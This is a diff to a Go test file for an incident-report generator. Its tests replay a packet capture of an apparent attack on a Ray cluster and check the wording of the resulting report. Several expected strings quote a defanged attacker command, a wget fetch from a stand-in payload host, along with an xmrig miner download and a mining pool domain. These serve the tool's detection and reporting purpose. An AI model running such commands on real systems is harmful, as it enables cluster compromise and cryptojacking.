@@ -103,8 +103,9 @@ func TestReportTellsTheAttack(t *testing.T) {
 	text := words(t, got)
 	for _, want := range []string{
 		"Yes: we were hit.",
-		"On 23 November 2026 at 16:42:37 UTC, 203[.]0[.]113[.]66 ran a job on the Ray cluster at 10.20.0.10:8265: wget -q hxxp://198[.]51[.]100[.]77/",
-		"10.20.0.10 fetched hxxp://198[.]51[.]100[.]77/xmrig-6.21.0-linux-static-x64.tar.gz from 198[.]51[.]100[.]77 (answer 200, 300 kB)",
+		"On 23 November 2026 at 16:42:37 UTC, 203[.]0[.]113[.]66 ran a job on 10.20.0.10:8265 (wget -q hxxp://198[.]51[.]100[.]77/",
+		"A chain of cause: 203[.]0[.]113[.]66 → 10.20.0.10",
+		"Request: hxxp://198[.]51[.]100[.]77/xmrig-6.21.0-linux-static-x64.tar.gz, answer 200, 300 kB.",
 		"7 jobs, 11 shares, of which the pool accepted 11.",
 		"open: answered 1 call from outside without a credential",
 		"pool[.]supportxmr[.]com",
@@ -128,6 +129,27 @@ func TestReportTellsTheAttack(t *testing.T) {
 	}
 	if bytes.Contains(got, []byte("href=\"http")) || bytes.Contains(got, []byte("src=")) {
 		t.Error("the page has a link to elsewhere")
+	}
+}
+
+// Logs of a run that knows no incidents, or has lost them, tell the same out of findings and calls.
+func TestReportWithoutIncidents(t *testing.T) {
+	dir := replay(t, "../../pcaps/shadowray.pcap.gz", zeek.TSV)
+	if err := os.Remove(filepath.Join(dir, "incidents.log")); err != nil {
+		t.Fatal(err)
+	}
+	text := words(t, page(t, read(t, dir)))
+	for _, want := range []string{
+		"Yes: we were hit.",
+		"On 23 November 2026 at 16:42:37 UTC, 203[.]0[.]113[.]66 ran a job on the Ray cluster at 10.20.0.10:8265: wget -q hxxp://198[.]51[.]100[.]77/",
+		"payload host",
+	} {
+		if !strings.Contains(text, want) {
+			t.Errorf("the page does not say %q", want)
+		}
+	}
+	if strings.Contains(text, "Incidents") {
+		t.Error("the page has incidents")
 	}
 }
 
@@ -424,9 +446,9 @@ func TestDamagedLogs(t *testing.T) {
 	if err := os.WriteFile(filepath.Join(dir, "conn.log"), []byte("no header\n\x00\xff\t\n{\"ts\":\n{\"ts\":1e99,\"duration\":-5,\"id.orig_h\":7,\"orig_bytes\":\"x\"}\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
-	r := read(t, dir)
-	if r.Damaged != 4 || len(r.Findings) != 4 {
-		t.Errorf("%d damaged lines, %d findings", r.Damaged, len(r.Findings))
+	r, want := read(t, dir), bytes.Count(b, []byte("\n"))-9-1 // header and end; the last row is cut
+	if r.Damaged != 4 || len(r.Findings) != want {
+		t.Errorf("%d damaged lines, %d findings, want %d", r.Damaged, len(r.Findings), want)
 	}
 	if text := words(t, page(t, r)); !strings.Contains(text, "4 lines of the logs could not be read.") {
 		t.Error("the page does not say that lines were damaged")
